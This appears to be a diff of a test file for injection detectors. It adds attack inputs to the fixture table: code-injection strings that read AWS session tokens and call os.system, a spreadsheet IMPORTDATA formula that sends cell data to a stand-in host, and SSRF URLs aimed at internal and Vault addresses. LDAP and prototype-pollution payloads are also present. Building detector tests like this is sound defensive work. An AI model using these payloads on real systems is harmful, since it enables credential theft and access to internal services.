@@ -60,7 +60,16 @@ const ATTACKS: ReadonlyArray<readonly [Detector, readonly string[]]> = [
       'shop.example\nid',
     ],
   ],
-  [codei, ["getattr(sys.modules['os'],'sys'+'tem')('id')", '=IMPORTDATA("http://a.example/"&A2)', "';puts 6*7"]],
+  [
+    codei,
+    [
+      "os.environ.get('AWS_SESSION_TOKEN')",
+      "ENV['AWS_SESSION_TOKEN']",
+      "getattr(sys.modules['os'],'sys'+'tem')('id')",
+      '=IMPORTDATA("http://a.example/"&A2)',
+      "';puts 6*7",
+    ],
+  ],
   [
     crlf,
     [
@@ -77,7 +86,7 @@ const ATTACKS: ReadonlyArray<readonly [Detector, readonly string[]]> = [
   ],
   [ldap, ['*)(memberOf:dn:2.5.13.5:=a', '(uid=adm*)', '(|(title=a*))', '(!(cn=a*)(mail=*))']],
   [proto, ['__proto__:\n  admin: true', '[__proto__]\nadmin = true']],
-  [ssrf, ['http://[fec0::1]/']],
+  [ssrf, ['http://[fec0::1]/', 'ht\ttp://127.0.0.1/', 'http://db.internal:8080/', 'http://vault.service.consul/']],
   [
     ssti,
     [
